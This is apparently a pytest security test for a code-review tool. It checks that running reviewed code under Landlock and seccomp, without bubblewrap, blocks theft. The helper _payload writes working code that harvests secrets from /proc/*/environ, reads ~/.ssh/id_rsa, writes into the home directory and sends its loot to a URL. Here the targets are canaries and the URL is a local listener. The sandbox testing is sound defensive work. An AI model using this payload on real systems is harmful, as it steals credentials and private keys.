"""``suggestion-check`` without bubblewrap, as a regular user.

The configured check (``python3 -m doctest {path}``) executes the file under review. Unconfined
that code would run as the user, next to the secrets: it could read the environment
orch-review's processes were started with from ``/proc/*/environ``, read ``~/.ssh/id_rsa``,
write into the home directory and call out. An honest review, run as an unprivileged uid
through the real CLI with no working bubblewrap, runs it under Landlock and seccomp, where
all of that fails.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import git
from tests.fakes.http_server import Exchange, LocalHTTPServer
from tests.fakes.messages_api import FakeMessagesAPI
from tests.scripted import PLANTED_FILES, Concern, ReviewScript
from tests.security.verdicts import HOST_RESULTS, HostVerdict

pytestmark = pytest.mark.slow

NOBODY = 65534
AS_NOBODY = ("setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups")
SAFE_QUERY = (
    '    cursor.execute("SELECT * FROM users WHERE name = ?", (name,))\n'
    "    return cursor.fetchone()"
)


def _payload(home: Path, url: str) -> str:
    """Top-level code that steals what it can the moment the module is executed."""
    return (
        "import glob, os, urllib.parse, urllib.request\n"
        "loot = []\n"
        "for name in glob.glob('/proc/[0-9]*/environ'):\n"
        "    try:\n"
        "        loot += [v for v in open(name, 'rb').read().split(b'\\0') if b'CANARY' in v]\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        f"    loot.append(open({str(home / '.ssh' / 'id_rsa')!r}, 'rb').read())\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    open({str(home / 'pwned')!r}, 'w').write('ran')\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    urllib.request.urlopen({url!r} + '/?' + urllib.parse.urlencode("
        "{'loot': b'|'.join(loot)}), timeout=3)\n"
        "except Exception:\n"
        "    pass\n"
    )


@pytest.fixture
def listener() -> Iterator[tuple[LocalHTTPServer, list[str]]]:
    hits: list[str] = []

    def record(exchange: Exchange) -> None:
        hits.append(exchange.path)
        exchange.send_json(200, {})

    server = LocalHTTPServer(record, name="listener")
    server.start()
    yield server, hits
    server.stop()


@pytest.fixture
def nobodys() -> Iterator[Path]:
    """A directory the unprivileged uid owns (pytest's own tmp_path is root's, mode 0700)."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("needs root and setpriv to run orch-review as an unprivileged user")
    where = Path(tempfile.mkdtemp(prefix="orch-review-nobody-"))
    where.chmod(0o755)
    probe = subprocess.run(
        [*AS_NOBODY, sys.executable, "-P", "-c", "import orch_review.cli"],
        cwd=where,
        capture_output=True,
        check=False,
    )
    if probe.returncode != 0:
        shutil.rmtree(where)
        pytest.skip(f"uid {NOBODY} cannot run this interpreter: {probe.stderr[-200:]!r}")
    yield where
    shutil.rmtree(where)


@pytest.fixture
def ours() -> Iterator[Path]:
    """A directory of this user's that others may read (root's shells run as another uid)."""
    where = Path(tempfile.mkdtemp(prefix="orch-review-ours-"))
    where.chmod(0o755)
    yield where
    shutil.rmtree(where)


@pytest.mark.parametrize("who", ["nobodys", "ours"])
def test_suggestion_check_runs_confined_by_landlock_without_bubblewrap(
    who: str,
    api_env: dict[str, str],
    fake_api: FakeMessagesAPI,
    listener: tuple[LocalHTTPServer, list[str]],
    request: pytest.FixtureRequest,
) -> None:
    """As a regular user (uid 65534) and as whoever runs the tests (root: another uid)."""
    nobodys: Path = request.getfixturevalue(who)
    as_user = AS_NOBODY if who == "nobodys" else ()
    user = f"uid {NOBODY}" if as_user else "the tests' user"
    server, hits = listener
    home = nobodys / "home"
    canaries = {n: f"CANARY-{n}-{secrets.token_hex(8)}" for n in ("key", "token", "ssh")}
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{canaries['ssh']}\n")
    repo = nobodys / "repo"
    repo.mkdir()
    app = _payload(home, server.base_url) + "\n\n" + PLANTED_FILES["app.py"]
    (repo / "app.py").write_text(app)
    (repo / ".orch-review.toml").write_text('suggestion-check = "python3 -m doctest {path}"\n')
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t.invalid", "commit", "-qm", "app")
    if as_user:
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(nobodys)], check=True)
    fake_api.policy = ReviewScript(
        [
            Concern(
                "injection",
                "Check app.py for SQL injection: queries built from user input.",
                "grep -n 'execute(f' app.py",
                path="app.py",
                severity="high",
                category="security",
                claim="The query is built with an f-string from `name`: SQL injection.",
                replacement=lambda _: SAFE_QUERY,
                span=2,
            )
        ]
    )
    env = {
        **api_env,
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "ANTHROPIC_API_KEY": canaries["key"],
        "GITHUB_TOKEN": canaries["token"],
        "ORCH_REVIEW_SANDBOX": "auto",
        "ORCH_REVIEW_BWRAP_PATH": str(nobodys / "not-installed" / "bwrap"),
    }
    report = home / "report.json"

    flags = ("--all", "--no-progress", "--verbose", "--json", str(report))
    result = subprocess.run(
        [*as_user, sys.executable, "-P", "-m", "orch_review", *flags],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        check=False,
    )

    ran = (home / "pwned").exists()
    leaked = [n for n, v in canaries.items() if any(v in h for h in hits)]
    attack = f"2. suggestion-check on the reviewed code, no bubblewrap, as {user}"
    detail = f"wrote the home: {ran}, listener got {hits}, leaked {leaked}"
    request.config.stash[HOST_RESULTS].append(HostVerdict(attack, not ran and not hits, detail))
    if "orch-review: sandbox: Landlock" not in result.stderr:
        pytest.skip(f"Landlock cannot run here as {user}: {result.stderr[-400:]}")
    assert result.returncode == 1, result.stdout + result.stderr
    assert not ran and hits == [], detail
    for value in canaries.values():
        assert not any(value.encode() in r.raw for r in fake_api.requests)
    (finding,) = json.loads(report.read_text())["findings"]
    # It ran, confined: the payload found nothing to steal and the doctest passed.
    assert finding["patch"]["verified"] is True, finding["patch"]
